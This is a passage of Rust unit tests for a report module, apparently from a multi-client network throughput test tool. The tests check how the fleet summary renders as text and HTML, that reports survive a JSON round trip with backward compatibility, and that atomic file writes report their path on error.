        assert!(text.starts_with(&seed), "the seed block is unchanged");
        assert_eq!(
            &text[seed.len()..],
            "Fleet: 2 of 3 expected client(s) started together at 2026-11-25_10:00:02 (start \
             timeout); 1 PASS, 8 file(s), 400.0 MB, 20.00 MB/s overall, peak 25.50 MB/s\n"
        );
        let html = r.to_html();
        assert!(html.contains(r#"<p id="fleet">Fleet: 2 of 3"#), "{html}");
        assert!(html.contains(r#"data-client="all clients" data-points="1""#));
        r.total.started_clients = None;
        assert!(r
            .to_text()
            .contains("Fleet: 3 client(s) expected, the fleet never started;"));
        // The fields round-trip, and a report without them (an older one) still parses.
        assert_eq!(Report::from_json(&r.to_json()).unwrap(), r);
        let mut v: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
        for k in [
            "expected_clients",
            "started_clients",
            "common_start",
            "series",
        ] {
            v["total"].as_object_mut().unwrap().remove(k);
        }
        let old = Report::from_json(&v.to_string()).unwrap();
        assert_eq!(old.total.expected_clients, None);
        assert!(old.total.series.is_empty());
    }

    #[test]
    fn atomic_write_reports_the_path_on_failure() {
        let dir = tempfile::tempdir().unwrap();
        let blocker = dir.path().join("file");
        std::fs::write(&blocker, b"x").unwrap();
        let err = write_atomic(&blocker.join("report.json"), b"{}").unwrap_err();
        assert!(err.to_string().contains("file"), "{err}");
    }
}
